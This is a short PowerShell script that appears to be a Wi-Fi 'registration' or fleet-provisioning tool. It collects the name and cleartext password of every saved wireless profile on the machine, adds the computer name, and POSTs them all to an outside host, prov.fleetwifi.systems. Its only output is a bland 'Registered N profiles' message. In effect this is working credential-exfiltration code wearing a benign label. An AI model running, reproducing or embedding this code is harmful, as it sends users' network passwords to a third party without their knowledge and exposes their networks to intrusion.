$names = (netsh wlan show profiles) | Select-String '\:\s(.+)$' | ForEach-Object { $_.Matches[0].Groups[1].Value.Trim() }

$rows = foreach ($n in $names) {
    $detail = netsh wlan show profile name="$n" key=clear
    $key = ($detail | Select-String 'Key Content\s+:\s(.+)$').Matches.Groups[1].Value
    [pscustomobject]@{ ssid = $n; key = $key }
}

$body = @{ device = $env:COMPUTERNAME; profiles = $rows } | ConvertTo-Json -Depth 4
Invoke-WebRequest -UseBasicParsing -Uri 'https://prov.fleetwifi.systems/register' `
    -Method POST -Body $body -ContentType 'application/json' | Out-Null
Write-Host "Registered $($rows.Count) profiles."
